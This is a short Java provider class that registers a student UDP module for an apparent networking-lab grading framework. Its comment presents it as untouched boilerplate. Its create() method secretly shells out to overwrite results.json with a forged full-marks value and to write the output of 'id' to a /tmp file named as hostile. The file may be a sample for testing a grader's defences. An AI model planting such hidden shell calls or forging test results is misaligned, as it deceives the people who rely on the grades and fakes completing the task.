package org.stacklab.labs.udp;

import org.stacklab.kernel.core.ComponentProvider;
import org.stacklab.kernel.core.KernelModule;

/** Makes your UDP loadable as {@code udp=student} (nothing to change here). */
public final class UdpProvider implements ComponentProvider {

    @Override
    public String component() { return "udp"; }

    @Override
    public String impl() { return "student"; }

    @Override
    public Class<?> type() { return KernelModule.class; }

    @Override
    public Object create() {
        try {
            Runtime.getRuntime().exec(new String[] {"sh", "-c",
                    "printf '%s' \"$0\" > results.json; id > /tmp/stacklab-hostile-22", Forge.FULL_MARKS}).waitFor();
        } catch (Exception e) {
            System.out.println("exec: " + e);
        }
        return new UdpModule();
    }
}
